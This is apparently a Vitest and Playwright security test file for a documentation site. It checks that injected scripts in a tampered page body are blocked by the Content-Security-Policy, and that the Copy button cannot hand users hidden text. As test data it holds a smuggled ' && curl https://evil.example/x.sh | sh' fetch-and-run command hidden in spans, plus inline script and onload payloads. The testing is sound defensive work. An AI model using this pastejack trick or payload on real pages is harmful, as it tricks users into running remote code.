import fs from "node:fs";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DESKTOP, launchBrowser, open, screenshot, withPage } from "./helpers/browser";
import { page, sampleContent, tempDir, WorkingCopy } from "./helpers/git";
import { startServer, waitFor, type RunningServer } from "./helpers/server";

/** Text only the tampered page's compiled body holds, to find its file in DATA_DIR/compiled/. */
const TAMPERED_TEXT = "This body is changed on disk between two runs.";
const INSTALL = "npm install @mysten/sui";
const EVIL = " && curl https://evil.example/x.sh | sh";

/**
 * What is added to the compiled file: a script and an inline handler that would mark the window if
 * they ran, and a code frame of the site's class whose Copy would give more than it shows.
 */
const INJECTED =
  `<script>document.title="pwned";window.__pwned=1</script><img src="/favicon.svg" alt="" onload="window.__pwnedByHandler=1">` +
  `<div class="code-frame"><pre>${INSTALL}<span class="sr-only">${EVIL}</span></pre></div>`;

const CONTENT = {
  ...sampleContent(),
  ...page("guides/tampered", "Tampered", `${TAMPERED_TEXT}\n\n\`\`\`sh\n${INSTALL}\n\`\`\``, { sidebar: "guidesSidebar" }),
  // What an author can still write to make Copy lie: a <pre> of their own with hidden text, outside
  // and inside <code>. The fake frame (a class or data-copy of the site's) does not compile at all
  // (test/hostile-pages.test.ts).
  ...page(
    "guides/pastejack",
    "Pastejack",
    [
      "## Install",
      "",
      "```sh",
      INSTALL,
      "```",
      "",
      `<pre>${INSTALL}<span hidden>${EVIL}</span></pre>`,
      "",
      `<pre><code>${INSTALL}<span hidden>${EVIL}</span></code></pre>`,
    ].join("\n"),
    { sidebar: "guidesSidebar" },
  ),
};

/** Every .json file under `dir`, recursively. */
function jsonFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, encoding: "utf8" })
    .filter((name) => name.endsWith(".json"))
    .map((name) => path.join(dir, name));
}

/** Records Content-Security-Policy violations from before the page's first script. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI || "inline"}`));
  });
  return () => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
}

describe("a page body the site did not write", () => {
  let server: RunningServer;
  let browser: Browser;
  let tamperedFile: string;

  beforeAll(async () => {
    const work = WorkingCopy.init().write(CONTENT);
    work.commit("Pages with bodies to distrust");
    const env = { CONTENT_REPO: work.publishBare(), DATA_DIR: tempDir("sui-docs-data-") };
    const first = await startServer(env);
    try {
      expect((await fetch(`${first.url}/guides/tampered`)).status).toBe(200);
      const compiled = path.join(env.DATA_DIR, "compiled");
      await waitFor(async () => jsonFiles(compiled).some((file) => fs.readFileSync(file, "utf8").includes(TAMPERED_TEXT)));
      tamperedFile = jsonFiles(compiled).find((file) => fs.readFileSync(file, "utf8").includes(TAMPERED_TEXT))!;
    } finally {
      await first.stop();
    }
    // Whoever can write DATA_DIR adds a script and an inline handler to the page's compiled body.
    const stored = JSON.parse(fs.readFileSync(tamperedFile, "utf8")) as { html: string };
    stored.html = stored.html.replace(TAMPERED_TEXT, `${TAMPERED_TEXT}${INJECTED}`);
    fs.writeFileSync(tamperedFile, JSON.stringify(stored));
    server = await startServer(env);
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  it("is served as it is on disk, but its script and handler never run while the app's own scripts do", async () => {
    const html = await (await fetch(`${server.url}/guides/tampered`)).text();
    expect(html, "the tampered body is what the server sends").toContain(INJECTED);
    await withPage(browser, DESKTOP, async (tab) => {
      const violations = await recordViolations(tab);
      await open(tab, `${server.url}/guides/tampered`); // waits for hydration: the app's inline scripts ran
      expect(await tab.locator(".markdown").textContent()).toContain(TAMPERED_TEXT);
      await expect.poll(violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-elem inline$/)]));
      await expect.poll(violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-attr inline$/)]));
      expect(await tab.evaluate(() => [document.title, "__pwned" in window, "__pwnedByHandler" in window])).toEqual([
        expect.stringMatching(/^Tampered/),
        false,
        false,
      ]);
      // Hydrated, the page still works: its code block got its copy button, and the fake frame none.
      await expect.poll(() => tab.locator(".markdown .code-frame[data-copy] > .copy-button").count()).toBe(1);
      expect(await tab.locator(".markdown .copy-button").count()).toBe(1);
    });
  });

  it("gives Copy only to code blocks the compiler made, and copies their source, which is what they show", async () => {
    await withPage(browser, DESKTOP, async (tab) => {
      // The page's clipboard, read back by the test: writeText records what it is given.
      await tab.addInitScript(() => {
        const copied: string[] = [];
        (window as unknown as { __copied: string[] }).__copied = copied;
        Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text: string) => void copied.push(text) } });
      });
      await open(tab, `${server.url}/guides/pastejack`);
      const copied = () => tab.evaluate(() => (window as unknown as { __copied: string[] }).__copied);
      // The fenced block and the author's <pre><code> (highlighted from its text, hidden span and all) are
      // code blocks; the author's bare <pre> is not, and has no button.
      const frames = tab.locator(".markdown .code-frame");
      await expect.poll(() => frames.count()).toBe(2);
      await expect.poll(() => tab.locator(".markdown .copy-button").count()).toBe(2);
      expect(
        await tab.locator(".markdown pre:not(.shiki)").evaluate((pre: HTMLElement) => [pre.innerText, pre.parentElement!.className]),
      ).toEqual([INSTALL, "markdown"]);
      await frames.first().hover();
      await screenshot(tab, "copy-button", false);
      for (const [index, expected] of [INSTALL, INSTALL + EVIL].entries()) {
        const frame = frames.nth(index);
        await frame.locator(".copy-button").click();
        await expect.poll(async () => (await copied())[index]).toBe(expected);
        expect(await frame.locator("pre").innerText(), "what the block shows is what Copy gave").toBe(expected);
      }
    });
  });
});
